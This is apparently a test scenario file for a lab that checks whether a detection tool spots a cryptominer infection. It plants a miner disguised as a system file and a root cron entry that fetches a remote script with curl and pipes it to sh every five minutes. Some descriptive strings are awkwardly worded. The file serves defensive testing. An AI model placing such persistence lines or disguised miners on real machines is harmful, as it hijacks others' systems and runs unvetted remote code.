import { world } from '../../../lab/addresses.ts';
import { scenario } from '../scenario.ts';
import { addCron } from '../words.ts';

const miner = '/usr/lib/.dl/ldd';
const url = `http://${world.mirror}:${world.mirrorPort}/pub/x.sh`;
const line = `*/5 * * * * curl -fsSL ${url} | sh; /usr/lib/.dl/ldd`;

export default scenario({
  what: 'a loader that lies where somebody downloads at the moment',
  report:
    'The same bare address and port, another path, into /dev/null: a stranger’s download, not the attacker’s.',
  wrong:
    'a running download from a bare address of which a linked line fetches is linked by the address alone',
  plant: {
    images: [miner],
    start: `${addCron('root', [line])}\nrun ${miner}`,
    runs: [miner],
  },
  expect: {
    verdict: 'confirmed',
    ticked: { processes: [miner], files: [miner], starters: [line] },
    blocks: [world.pool],
    resolution: 'cleaned',
  },
});
